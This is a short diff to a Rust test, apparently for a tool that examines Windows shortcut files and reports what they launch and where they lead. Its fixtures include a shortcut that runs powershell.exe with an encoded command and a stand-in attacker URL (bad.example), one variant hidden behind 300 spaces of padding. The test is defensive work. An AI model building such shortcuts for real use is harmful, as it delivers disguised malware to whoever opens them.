@@ -24,7 +24,8 @@ fn links_say_what_they_start_and_where_they_lead() {
     let loaded = policy.open(None).unwrap();
     let examiner = Examiner::new(&loaded);
     let blanks = format!("{}-enc AAAA http://bad.example/x", " ".repeat(300));
-    let cases: Vec<(&str, Vec<u8>, &[&str], &[&str])> = vec![
+    type Case<'a> = (&'a str, Vec<u8>, &'a [&'a str], &'a [&'a str]);
+    let cases: Vec<Case<'_>> = vec![
         (
             "a.lnk",
             shell_link("..\\powershell.exe", "-enc AAAA http://bad.example/x", b""),
